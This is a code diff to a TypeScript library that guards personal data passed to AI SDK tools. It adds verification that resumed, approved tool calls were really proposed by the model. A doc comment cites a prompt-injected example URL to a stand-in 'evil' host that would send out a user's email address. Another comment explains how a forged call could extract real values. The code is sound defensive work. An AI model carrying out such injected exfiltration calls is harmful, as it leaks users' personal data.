@@ -11,8 +11,14 @@ import {
   type ToolStrategyOption,
 } from './tools/resolve-strategy';
 import { createToolInputRestorer } from './tools/restore-input-schema';
+import { createToolCallVerifier, type ToolCallVerifier } from './tools/verify-tool-calls';
 
 export type { ToolRestoreOption, ToolStrategyOption };
+
+/** What to do with a tool call that `execute` receives from the history (a resumed approval). */
+export type ResumedToolCallPolicy = 'verify' | 'trust';
+
+const RESUMED_CALL_POLICIES: readonly ResumedToolCallPolicy[] = ['verify', 'trust'];
 
 export interface WithPiiToolsOptions<TOOLS extends ToolSet = ToolSet> {
   /** The conversation whose tokens the tools' arguments hold. */
@@ -35,6 +41,16 @@ export interface WithPiiToolsOptions<TOOLS extends ToolSet = ToolSet> {
    * prompt-injected `fetchUrl("https://evil/?q=<<EMAIL:1>>")` never sends the address.
    */
   restore?: ToolRestoreOption<Extract<keyof TOOLS, string>>;
+  /**
+   * A tool call that `execute` receives from the message history rather than from the model
+   * (an approved `needsApproval` call, resumed in a later request): `verify` (default) restores
+   * its arguments only if the model really proposed that call (same id, tool and arguments),
+   * as recorded in the vault store; otherwise the tool does not run and the model reads a
+   * `PiiUnverifiedToolCallError`. `trust` restores any such call: a client that forges one
+   * gets the tool run on the real values of any token it names. Only `full` and `input` tools
+   * are concerned (the others never receive real values).
+   */
+  resumedCalls?: ResumedToolCallPolicy;
 }
 
 type AnyTool = ToolSet[string];
@@ -49,10 +65,12 @@ function copyWith<TOOL extends object>(tool: TOOL, overrides: Record<string, unk
 }
 
 function wrapTool<TOOL extends AnyTool>(
+  name: string,
   tool: TOOL,
   plan: ResolvedToolPlan,
   session: PiiSession,
   invented: InventedTokenPolicy,
+  resumedCalls: ResumedToolCallPolicy,
 ): TOOL {
   const execute = tool.execute;
   // Provider-executed tools and client-side tools have no `execute`: the SDK never runs them.
@@ -69,6 +87,11 @@ function wrapTool<TOOL extends AnyTool>(
   const mask = masksResult(plan.strategy)
     ? createToolResultMasker(session, plan.strategy === 'output' ? 'keep' : 'neutralize')
     : undefined;
+  // Only tools given real values need to know that a call comes from the model.
+  const calls: ToolCallVerifier | undefined =
+    resumedCalls === 'verify' && plan.strategy !== 'output'
+      ? createToolCallVerifier(session, name)
+      : undefined;
 
   // Not `async`: when the tool returns an async iterable (preliminary results), so must this.
   function wrappedExecute(this: unknown, toolInput: unknown, options: Options): unknown {
@@ -76,7 +99,18 @@ function wrapTool<TOOL extends AnyTool>(
       const call = () => execute!.call(this, ready as never, options as never);
       return mask ? callAndMask(call, mask) : call();
     };
+    // Consumed in every case: real values live only until the tool runs.
     const taken = input.take(toolInput);
+    if (calls) {
+      // The SDK also validates resumed calls (ai@6 even on the very object that `execute`
+      // gets), so a validated input proves nothing: the call must have been recorded.
+      const toolCallId = (options as { toolCallId?: unknown } | undefined)?.toolCallId;
+      if (taken && calls.recordedHere(toolCallId, toolInput)) return run(taken.value);
+      return calls
+        .verify(toolCallId, toolInput)
+        .then(() => (taken ? taken.value : input.prepare(toolInput)))
+        .then((ready) => settleOutput(run(ready)));
+    }
     if (taken) return run(taken.value);
     // Input that our schema did not see (an approved call resumed in a later request, a tool
     // without schema, a direct call): restore and validate now. The result is then a promise,
@@ -84,9 +118,21 @@ function wrapTool<TOOL extends AnyTool>(
     return input.prepare(toolInput).then((ready) => settleOutput(run(ready)));
   }
 
+  const onInputAvailable = tool.onInputAvailable;
+  // The SDK calls it, and awaits it, only for a call that it parsed from the model's output:
+  // the one place where a call is known to come from the model.
+  async function recordingOnInputAvailable(
+    this: unknown,
+    event: { toolCallId: string; input: unknown },
+  ): Promise<void> {
+    await calls!.record(event.toolCallId, event.input);
+    if (typeof onInputAvailable === 'function') await onInputAvailable.call(this, event as never);
+  }
+
   return copyWith(tool, {
     execute: wrappedExecute,
     ...(input.inputSchema !== undefined ? { inputSchema: input.inputSchema } : {}),
+    ...(calls ? { onInputAvailable: recordingOnInputAvailable } : {}),
   });
 }
 
@@ -100,7 +146,9 @@ const masksResult = (strategy: ToolStrategy) => strategy === 'full' || strategy 
  * Each tool's strategy is recorded on `session.toolStrategies` for `piiMiddleware`.
  *
  * Returns a tool set of the same type; every property of each tool is kept, and tools without
- * `execute` (provider-executed, client-side) are returned as they are.
+ * `execute` (provider-executed, client-side) are returned as they are. Calls proposed by the
+ * model are recorded in the vault store, so that an approved call resumed in a later request
+ * is restored only if the model really proposed it (`resumedCalls`).
  *
  * @example
  * import { streamText, tool, wrapLanguageModel } from 'ai';
@@ -137,10 +185,16 @@ export function withPiiTools<TOOLS extends ToolSet>(
   }
   const plans = resolveToolPlans(Object.keys(tools), options);
   const invented = options.invented ?? 'throw';
+  const resumedCalls = options.resumedCalls ?? 'verify';
+  if (!RESUMED_CALL_POLICIES.includes(resumedCalls)) {
+    throw new PiiConfigError(
+      `withPiiTools: unknown \`resumedCalls\` choice ${JSON.stringify(resumedCalls)}. Use one of ${RESUMED_CALL_POLICIES.map((p) => JSON.stringify(p)).join(', ')}.`,
+    );
+  }
   const wrapped: Record<string, AnyTool> = {};
   for (const [name, plan] of plans) {
     session.toolStrategies.set(name, plan.strategy);
-    wrapped[name] = wrapTool(tools[name]!, plan, session, invented);
+    wrapped[name] = wrapTool(name, tools[name]!, plan, session, invented, resumedCalls);
   }
   return wrapped as TOOLS;
 }
